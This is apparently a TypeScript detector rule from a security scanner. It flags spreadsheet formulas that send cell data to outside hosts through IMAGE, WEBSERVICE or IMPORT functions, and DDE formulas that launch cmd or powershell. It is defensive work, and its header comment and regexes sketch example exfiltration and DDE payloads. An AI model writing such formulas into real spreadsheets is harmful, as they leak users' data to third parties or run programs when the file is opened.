/**
 * Spreadsheet formulas a skill's programs or data files write that fetch an address built from the sheet's own cells
 * (`=IMAGE("https://qr.host/?d="&ENCODEURL(B2&C2))`, `WEBSERVICE`, `IMPORTDATA`, `IMPORTXML`, `IMPORTHTML`, `IMPORTFEED`):
 * Excel and Google Sheets fetch them when the file is opened or refreshed, so the cells' contents reach that host. One cell
 * looked up by its value (a ticker, a domain's favicon) is how these functions are meant to be used; several cells, or a
 * cell encoded into the address, or the data written straight into the address, is the sheet's data sent on. DDE
 * (`=cmd|' /C …'!A0`) runs a program when the sheet opens.
 */
import { isLocalHost, urlHosts } from '../knowledge.ts';
import type { RawFinding } from '../model.ts';
import type { ScanContext } from './types.ts';

/** Bumped when the logic changes, so the rule set digest changes with it; the metadata is in scanner/rules/spreadsheet-formula-callout/rule.yaml. */
export const version = 1;

/** Files that write or hold a sheet: programs in any language, CSV and XML. */
const SHEET_WRITERS = /\.(?:py|js|mjs|cjs|ts|rb|ps1|psm1|go|php|java|kt|cs|gs|sh|csv|tsv|xml|vba|bas)$/i;
/** A formula function that fetches an address (any case: the spreadsheet ignores it). */
const FETCHING_FORMULA = /\b(?:WEBSERVICE|IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTFEED|IMAGE)\s*\(/gi;
/** A cell reference as a formula or the program writing it spells it (`B2`, `$C$7`, `F${r}`, `A{row}`). */
const CELL = /(?<![\w$.])\$?[A-Z]{1,3}\$?(?:\d{1,7}|\$\{[^{}\n]{1,20}\}|\{[^{}\n]{1,20}\})(?![\w(])/g;
/** Data written into the address itself by the program (`?d={name};{email}`, `${phone}`, `%s`). */
const PLACEHOLDER = /\$\{[^{}\n]{1,30}\}|\{[^{}\s\n]{1,30}\}|%\(\w+\)s|%s/g;
/** DDE: a formula that runs a program when the sheet opens. */
const DDE = /(?:^|[,;"'\t=])\s*[=+\-@]\s*(?:cmd|powershell|pwsh|mshta|rundll32|msexcel)\s*\|\s*'[^'\n]*'\s*!/i;

/** The argument list of a call whose opening parenthesis is at `open`, up to its closing one (at most 600 characters). */
function argumentsAt(text: string, open: number): string {
  let depth = 0;
  for (let index = open; index < Math.min(text.length, open + 600); index += 1) {
    if (text[index] === '(') depth += 1;
    else if (text[index] === ')' && --depth === 0) return text.slice(open + 1, index);
  }
  return text.slice(open + 1, open + 600);
}

/** The spreadsheet-formula-callout detector. */
export function detect(context: ScanContext): RawFinding[] {
  const findings: RawFinding[] = [];
  for (const file of context.files) {
    if (file.fileClass !== 'text' || !SHEET_WRITERS.test(file.path)) continue;
    const text = file.text;
    const lineAt = (index: number) => text.slice(0, index).split('\n').length;
    const lineText = (index: number) => text.split('\n')[lineAt(index) - 1]!.trim().slice(0, 200);
    const dde = DDE.exec(text);
    if (dde) {
      findings.push({ ruleId: 'spreadsheet-formula-callout', file: file.path, line: lineAt(dde.index), evidence: lineText(dde.index), severity: 'critical', message: 'Writes a DDE formula that runs a program when the spreadsheet is opened.' });
      continue;
    }
    if (!/\b(?:WEBSERVICE|IMPORTDATA|IMPORTXML|IMPORTHTML|IMPORTFEED|IMAGE)\s*\(/i.test(text)) continue;
    for (const match of text.matchAll(FETCHING_FORMULA)) {
      // CSV doubles the quotes inside a quoted field (`""https://…""&A2`).
      const args = argumentsAt(text, match.index + match[0].length - 1).replace(/""/g, '"');
      // The address, written in the formula or held by a constant it names (`"${QR}"&…`, `BASE&A2`).
      const named = [...args.matchAll(/\$\{([A-Za-z_]\w*)\}|(?<![\w"'$])([A-Z_][A-Z0-9_]{2,})(?![\w(])/g)].map((found) => (found[1] ?? found[2])!);
      const held = named.flatMap((name) => new RegExp(`\\b${name}\\s*[:=]\\s*["'\`](https?:\\/\\/[^"'\`\\s]+)`).exec(text)?.[1] ?? []);
      const hosts = [...urlHosts(args), ...held.flatMap((url) => urlHosts(url))].map(({ host }) => host).filter((host) => !isLocalHost(host));
      if (hosts.length === 0) continue;
      const cells = new Set(args.match(CELL) ?? []);
      const address = /(?:https?:)?\/\/[^"'`\s]*/.exec(args)?.[0] ?? '';
      // Data written into the address, counting a value the program assembles from several fields (`payload = f"{name};{email}"`) as several.
      const holes = address.replace(/^[^?#]*?\/\/[^/]*/, '').match(PLACEHOLDER) ?? [];
      const assembled = (hole: string) => {
        const name = /^\$?\{([A-Za-z_]\w*)\}$/.exec(hole)?.[1];
        const value = name === undefined ? undefined : new RegExp(`^\\s*(?:(?:const|let|var)\\s+)?${name}\\s*=\\s*(.+)$`, 'm').exec(text)?.[1];
        return value !== undefined && (value.match(PLACEHOLDER) ?? []).length >= 2 ? 2 : 1;
      };
      const written = holes.reduce((total, hole) => total + assembled(hole), 0);
      if (cells.size < 2 && !(cells.size >= 1 && /\bENCODEURL\s*\(/i.test(args)) && written < 2) continue;
      findings.push({ ruleId: 'spreadsheet-formula-callout', file: file.path, line: lineAt(match.index), evidence: `${lineText(match.index)} (to ${hosts[0]})`, capabilityValue: [...new Set(hosts)].map((host) => `https://${host}/`).join(' ') });
      break;
    }
  }
  return findings;
}
